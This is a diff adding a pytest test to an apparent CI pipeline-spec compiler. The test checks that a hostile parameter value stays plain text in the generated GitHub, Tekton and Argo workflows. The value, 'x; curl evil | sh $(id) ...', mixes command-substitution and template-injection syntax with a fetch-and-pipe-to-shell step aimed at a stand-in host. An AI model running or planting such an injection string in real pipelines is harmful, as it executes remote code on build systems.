@@ -249,3 +249,74 @@ def test_no_reference_is_spliced_into_code(spec: dict[str, Any]) -> None:
         for document in yaml.safe_load_all(text):
             for code in _code_texts(target, document):
                 assert not ENGINE_REFERENCE[target].search(code), (target, code)
+
+
+# --- the fields of the platform and reuse issues: a hostile value stays text -------------------
+
+HOSTILE = "x; curl evil | sh $(id) {{x}} `id` $HOME"
+HOSTILE_SPEC = """\
+apiVersion: shipspec.dev/v1
+kind: Pipeline
+metadata:
+  name: hostile
+spec:
+  params:
+    - name: text
+      default: @HOSTILE@
+  defaults:
+    env:
+      FROM_DEFAULTS: ~{ params.text }
+  tasks:
+    - name: source
+      uses: checkout
+      with:
+        ref: ~{ params.text }
+    - name: steps
+      image: alpine:3.20
+      consumes: [{artifact: source}]
+      steps:
+        - name: script
+          env: {STEP: "~{ params.text }"}
+          run: echo "~{ params.text }" "$STEP" "$FROM_DEFAULTS"
+        - name: argv
+          command: [sh, -c, 'echo "~{ params.text }"']
+    - name: native
+      uses:
+        github: {action: actions/setup-go@b7ad1dad31e06c5925ef5d2fc7ad053ef454303e, with: {go-version: "~{ params.text }"}}
+        tekton: {resolver: cluster, resource: {kind: task, name: t}, params: {v: "~{ params.text }"}}
+        argo: {name: wt, template: t, arguments: {v: "~{ params.text }"}}
+    - name: version
+      uses: version
+      with: {base: "~{ params.text }"}
+    - name: image
+      uses: image
+      with: {image: ghcr.io/x/y, tags: ["~{ params.text }"]}
+      consumes: [{artifact: source}]
+  finally:
+    - name: notify
+      uses: notify
+      with: {webhook: {secret: s, key: k}, title: "~{ params.text }"}
+"""
+
+
+@pytest.mark.parametrize("hostile", [HOSTILE, HOSTILE + " ${{ x }}"])
+def test_a_hostile_value_in_the_new_fields_stays_text_on_every_engine(hostile: str) -> None:
+    """In a checkout's ref, steps (script, env, argv), task defaults, native inputs and block inputs, a
+    value with shell and engine syntax is never part of code: it is written only as the param's default
+    (GitHub declares it for dispatch and for call), and reaches each place through the engine's own
+    value mechanism (env, inputs, params)."""
+    import yaml
+
+    targets = TARGETS if "${{" not in hostile else ("argo", "tekton")  # GitHub refuses `${{` in a default
+    spec = HOSTILE_SPEC.replace("@HOSTILE@", json.dumps(hostile))
+    texts, diagnostics = compile_one(spec, "hostile.yaml", targets)
+    assert sorted(texts) == sorted(targets), diagnostics
+    for target in targets:
+        lines = [line.strip() for line in texts[target].splitlines() if "curl evil" in line]
+        assert lines and all(line.startswith(("default: ", "value: ")) for line in lines), (target, lines)
+        documents = list(yaml.safe_load_all(texts[target]))
+        assert hostile in json.dumps(documents), target  # and exactly as written
+        for document in documents:
+            for code in _code_texts(target, document):
+                assert not ENGINE_REFERENCE[target].search(code), (target, code)
+                assert "curl evil" not in code and "$(id)" not in code, (target, code)
